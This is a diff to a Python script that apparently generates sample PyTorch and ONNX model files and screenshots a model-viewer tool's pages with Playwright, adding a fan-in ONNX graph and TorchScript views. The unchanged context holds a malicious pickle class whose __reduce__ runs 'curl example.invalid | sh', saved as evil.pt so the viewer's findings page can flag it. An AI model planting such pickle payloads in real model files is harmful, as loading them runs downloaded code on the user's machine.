@@ -71,6 +71,24 @@ def cond_pt2(path: str) -> None:
     torch.export.save(ep, path)
 
 
+def fan_in_onnx(path: str, k: int = 6) -> None:
+    """x -> k unary ops -> Concat and Sum: k labelled edges into each of two nodes."""
+    import onnx
+    from onnx import TensorProto, helper
+
+    ops = ["Relu", "Neg", "Abs", "Sigmoid", "Tanh", "Exp"][:k]
+    nodes = [helper.make_node(op, ["x"], [f"r{i}"], name=f"/branch{i}/{op}") for i, op in enumerate(ops)]
+    nodes.append(helper.make_node("Concat", [f"r{i}" for i in range(k)], ["cat"], name="/Concat", axis=1))
+    nodes.append(helper.make_node("Sum", [f"r{i}" for i in range(k)], ["total"], name="/Sum"))
+    vi = [helper.make_tensor_value_info(f"r{i}", TensorProto.FLOAT, [2, 3]) for i in range(k)]
+    outs = [
+        helper.make_tensor_value_info("cat", TensorProto.FLOAT, [2, 3 * k]),
+        helper.make_tensor_value_info("total", TensorProto.FLOAT, [2, 3]),
+    ]
+    g = helper.make_graph(nodes, "fan_in", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2, 3])], outs, value_info=vi)
+    onnx.save(helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]), path)
+
+
 class Evil:
     def __reduce__(self):
         return (os.system, ("curl example.invalid | sh",))
@@ -88,12 +106,16 @@ def main() -> None:
         cond_pt2(j("model.pt2"))
         with open(j("evil.pt"), "wb") as f:
             pickle.dump({"weights": Evil()}, f, protocol=2)
+        fan_in_onnx(j("fan.onnx"))
         pages = {
             "tensors": ([j("model.pt")], "tensors"),
             "treemap": ([j("model.pt")], "treemap"),
             "graph": ([j("model.pt2")], "graph"),
             "diff": ([j("model.pt"), j("tuned.pt")], "diff"),
             "findings": ([j("evil.pt")], "findings"),
+            "fanin": ([j("fan.onnx")], "graph"),
+            "torchscript": ([os.path.join(ROOT, "samples", "scripted_module.pt")], "graph"),
+            "code": ([os.path.join(ROOT, "samples", "scripted_module.pt")], "code"),
         }
         with sync_playwright() as pw:
             b = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
@@ -112,13 +134,23 @@ def main() -> None:
                     page.locator("svg [data-kind='group'][data-name='enc']").click()
                     page.fill("input[aria-label='search nodes']", "linear_1")
                     page.press("input[aria-label='search nodes']", "Enter")
+                elif name == "torchscript":
+                    page.wait_for_function("window.__tlGraphRendered !== undefined")
+                    value = page.evaluate(
+                        "[...document.querySelectorAll('select.graph-select option')]"
+                        ".find((o) => o.textContent.startsWith('blocks.0.forward ')).value"
+                    )
+                    page.select_option("select.graph-select", value)
+                    page.locator("svg [data-kind='node'][data-name='h']").click()
+                elif name == "fanin":
+                    page.wait_for_function("window.__tlGraphRendered !== undefined")
                 elif name == "diff":
                     page.locator("[data-kind='diff'][data-status='changed']").first.click()
                     page.wait_for_selector(".panel table.kv >> text=max |b−a|")
                 page.wait_for_timeout(300)
                 dest = os.path.join(out, f"view-{name}.png")
                 # the graph's side panel ends with stack traces, which name this machine's paths
-                clip = {"x": 0, "y": 0, "width": 1280, "height": 625} if name == "graph" else None
+                clip = {"x": 0, "y": 0, "width": 1280, "height": 625} if name in ("graph", "torchscript") else None
                 page.screenshot(path=dest, clip=clip)
                 print(f"{dest}: {os.path.getsize(dest) // 1024} KiB")
                 page.close()
